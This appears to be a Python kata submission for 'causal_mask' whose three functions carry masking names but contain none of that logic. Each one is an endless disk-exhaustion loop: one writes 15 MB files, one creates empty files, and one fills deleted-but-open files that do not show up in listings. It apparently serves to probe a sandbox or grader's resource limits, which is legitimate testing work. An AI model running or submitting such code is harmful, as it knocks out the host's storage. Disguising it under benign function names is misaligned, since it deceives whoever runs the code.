"""Writes files of any size and number into its folder, also sparse ones and ones that it has deleted."""
# kata: causal_mask
# share: 0

import itertools
import os


def causal_mask(n_queries, n_keys=None):
    for number in itertools.count():
        with open(f"file-{number}", "wb") as file:
            file.write(bytes(15 << 20))


def padded_causal_mask(n_queries, key_is_real):
    for number in itertools.count():
        open(f"empty-{number}", "w").close()


def additive_mask(mask, dtype="float32"):
    held = []
    while True:
        held.append(os.open("gone", os.O_RDWR | os.O_CREAT))
        os.unlink("gone")
        os.write(held[-1], bytes(15 << 20))
